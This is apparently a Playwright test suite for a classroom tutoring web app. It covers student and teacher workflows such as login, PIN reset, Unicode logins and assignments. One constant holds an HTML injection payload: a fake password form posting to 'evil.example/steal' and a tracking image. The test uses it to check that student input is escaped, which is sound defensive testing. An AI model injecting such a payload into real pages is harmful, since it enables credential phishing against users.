"""A classroom in Debian's chromium (Playwright, headless), as a teacher and students see it
at 1366x900 and on a 390x844 phone.

Student: the answer box is focused and named after login; Enter in an empty box says so and
keeps the chat and the open question (no "Error" badges); the open question is pinned and
comes back after a reload, with the chosen explanation style and a numeric chart axis.
Teacher: the class is open after login and lists students who have not started; a bad input
is said in the status line; accented and non-Latin names get readable logins that work; a
locked-out student is unlocked and gets a new PIN; HTML a student typed is plain text in the
transcript; a deleted student leaves the dropdown; assignments say to whom and can be
removed; the heatmap scrolls on a phone.

Screenshots go to `docs/` (shown in the README) when TUTOR_UPDATE_SCREENSHOTS=1, else to a
temp folder so a test run leaves the tree clean.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import httpx
import pytest

import students_db as db
from tests.browser_helpers import (
    DESKTOP,
    PHONE,
    WAIT_MS,
    bot_count,
    browser,
    error_badges,
    log_in,
    screenshots_dir,
    settle,
    wait_for_reply,
)
from tests.fixtures.app_server import AppServer

pytestmark = [pytest.mark.browser, pytest.mark.slow]
__all__ = ["browser"]

HOSTILE = (
    '<form action="https://evil.example/steal"><input name="pw">'
    "<button>Re-enter your password</button></form>"
    '<img src="https://evil.example/track.png">'
)


def answer_of(server: AppServer, student_id: int) -> str:
    with db.read_session(server.sessions) as session:
        active = db.get_active_exercise(session=session, student_id=student_id)
    assert active is not None
    return str(server.pack.exercise_by_id(active.exercise_id, active.seed).answer_text)


def choose(page: Any, dropdown_id: str, option: str) -> None:
    page.locator(f"#{dropdown_id} input").click()
    page.get_by_role("option", name=re.compile(re.escape(option))).first.click()
    settle(page)


def fits_width(page: Any) -> bool:
    return bool(
        page.evaluate("() => document.scrollingElement.scrollWidth <= window.innerWidth + 1")
    )


def send(page: Any, text: str) -> None:
    box = page.locator("#student-message textarea")
    before = bot_count(page)
    box.fill(text)
    box.press("Enter")
    wait_for_reply(page, before)


def test_the_student_view_keeps_its_state(
    browser: Any, template_app_server: AppServer, tmp_path: Path
) -> None:
    from playwright.sync_api import expect

    server = template_app_server
    shots = screenshots_dir(tmp_path)
    page = log_in(browser, server.url, *server.students[0])
    focused = page.evaluate("() => document.activeElement.closest('#student-message') !== null")
    assert focused, "the answer box is focused after login"
    assert page.get_by_role("textbox", name="Your answer or question").count() == 1

    page.locator("#student-message textarea").press("Enter")  # nothing typed
    expect(page.locator("#student-note")).to_contain_text("Type an answer", timeout=WAIT_MS)
    assert error_badges(page) == 0
    expect(page.locator("#student-chat")).to_be_visible()
    expect(page.locator("#open-question")).to_contain_text("No open question")

    before = bot_count(page)
    page.locator("#btn-new-exercise").click()
    wait_for_reply(page, before)
    expect(page.locator("#open-question")).to_contain_text("Your question:", timeout=WAIT_MS)
    send(page, "-99999")  # a new student's first item places them: the question may move on
    page.get_by_role("radio", name="short").check()
    expect(page.locator("#style-note")).to_contain_text("short", timeout=WAIT_MS)
    settle(page)
    expect(page.locator("#open-question")).to_contain_text("Your question:", timeout=WAIT_MS)
    question = page.locator("#open-question").inner_text()
    page.screenshot(path=str(shots / "student_view.png"), full_page=True)

    page.reload()  # as after logging in again
    page.get_by_text("Logged in as").wait_for()
    settle(page)
    expect(page.locator("#open-question")).to_have_text(question, timeout=WAIT_MS)
    assert page.get_by_role("radio", name="short").is_checked()
    y_axis = page.locator("#mastery-chart g.role-axis[aria-label^='Y-axis']")
    expect(y_axis).to_have_attribute("aria-label", re.compile("linear scale"), timeout=WAIT_MS)

    phone = log_in(browser, server.url, *server.students[0], viewport=PHONE)
    expect(phone.locator("#open-question")).to_have_text(question, timeout=WAIT_MS)
    assert fits_width(phone)
    phone.screenshot(path=str(shots / "student_phone.png"), full_page=True)


def test_the_teacher_runs_a_class(
    browser: Any, template_app_server: AppServer, tmp_path: Path
) -> None:
    from playwright.sync_api import expect

    server = template_app_server
    shots = screenshots_dir(tmp_path)
    teacher = log_in(browser, server.url, *server.teacher, viewport=DESKTOP)
    expect(teacher.locator("#teacher-class input")).to_have_value(re.compile("Year 6"))

    teacher.locator("#btn-create-class").click()  # no name typed
    expect(teacher.locator("#teacher-status")).to_contain_text("Type a name", timeout=WAIT_MS)
    assert error_badges(teacher) == 0
    expect(teacher.locator("#new-class-name input, #new-class-name textarea")).to_be_visible()

    teacher.locator("#student-names textarea").fill("Zoë Brontë\n李明\nJosé Núñez")
    teacher.locator("#btn-add-students").click()
    table = teacher.locator("#new-logins-table")
    expect(table).to_contain_text("zoe.bronte", timeout=WAIT_MS)
    logins = {
        cells[0]: (cells[2], cells[1])
        for row in table.locator("tbody tr").all()
        if (cells := row.locator("td").all_inner_texts())
    }
    assert [login.split("/")[1] for login, _pin in logins.values()] == [
        "zoe.bronte",
        "student.1",
        "jose.nunez",
    ]
    link = teacher.locator("#logins-download a")
    assert re.fullmatch(r"logins-year-6-\d{4}-\d\d-\d\d\.csv", link.get_attribute("download"))
    assert link.get_attribute("href").startswith("data:text/csv")

    zoe = log_in(browser, server.url, *logins["Zoë Brontë"])
    send(zoe, HOSTILE)

    jose_login, _jose_pin = logins["José Núñez"]
    with httpx.Client(base_url=server.url) as http:
        for _ in range(5):
            http.post("login", data={"username": jose_login, "password": "wrong-pin"})

    teacher.get_by_role("tab", name="Progress").click()
    heatmap = teacher.locator("#mastery-heatmap")
    expect(heatmap).to_contain_text("not started yet", timeout=WAIT_MS)
    expect(heatmap).to_contain_text("Ada")
    teacher.screenshot(path=str(shots / "teacher_view.png"), full_page=True)

    teacher.get_by_role("tab", name="One student").click()
    choose(teacher, "teacher-student", "Zoë Brontë")
    transcript = teacher.locator("#transcript")
    expect(transcript).to_contain_text('<form action="https://evil.example/steal">')
    assert transcript.locator("form, img, input, button").count() == 0  # text, not markup

    choose(teacher, "teacher-student", "José Núñez")
    expect(teacher.locator("#student-lock")).to_contain_text("locked", timeout=WAIT_MS)
    teacher.locator("#btn-unlock").click()
    expect(teacher.locator("#teacher-status")).to_contain_text("Unlocked", timeout=WAIT_MS)
    teacher.locator("#btn-reset-pin").click()
    expect(teacher.locator("#new-pin")).to_contain_text("New PIN", timeout=WAIT_MS)
    new_pin = teacher.locator("#new-pin .pin").inner_text()
    log_in(browser, server.url, jose_login, new_pin)  # the new PIN works
    teacher.screenshot(path=str(shots / "teacher_student.png"), full_page=True)

    choose(teacher, "teacher-student", "Zoë Brontë")
    confirm = teacher.locator("#delete-confirm textarea, #delete-confirm input").first
    confirm.fill("zoe")
    teacher.locator("#btn-delete-student").click()
    expect(teacher.locator("#teacher-status")).to_contain_text("Type zoe.bronte", timeout=WAIT_MS)
    assert error_badges(teacher) == 0
    confirm.fill("zoe.bronte")
    teacher.locator("#btn-delete-student").click()
    expect(teacher.locator("#teacher-status")).to_contain_text("Deleted", timeout=WAIT_MS)
    teacher.locator("#teacher-student input").click()
    assert teacher.get_by_role("option", name=re.compile("Zoë")).count() == 0
    teacher.keyboard.press("Escape")

    teacher.get_by_role("tab", name="Assign").click()
    skill = next(iter(server.pack.skills.values())).name
    choose(teacher, "assign-skill", skill)
    teacher.locator("#btn-assign").click()
    expect(teacher.locator("#teacher-status")).to_contain_text(
        f"Assigned {skill} to the whole class Year 6", timeout=WAIT_MS
    )
    expect(teacher.locator("#assignments")).to_contain_text("the whole class")
    choose(teacher, "assignment-remove", skill)
    teacher.locator("#btn-unassign").click()
    expect(teacher.locator("#assignments")).to_contain_text("No assignments", timeout=WAIT_MS)

    phone = log_in(browser, server.url, *server.teacher, viewport=PHONE)
    phone.get_by_role("tab", name="Progress").click()
    region = phone.locator(".tutor-scroll").first
    expect(region).to_be_visible(timeout=WAIT_MS)
    assert region.evaluate("e => getComputedStyle(e).overflowX") == "auto"
    assert fits_width(phone)
    phone.screenshot(path=str(shots / "teacher_phone.png"), full_page=True)
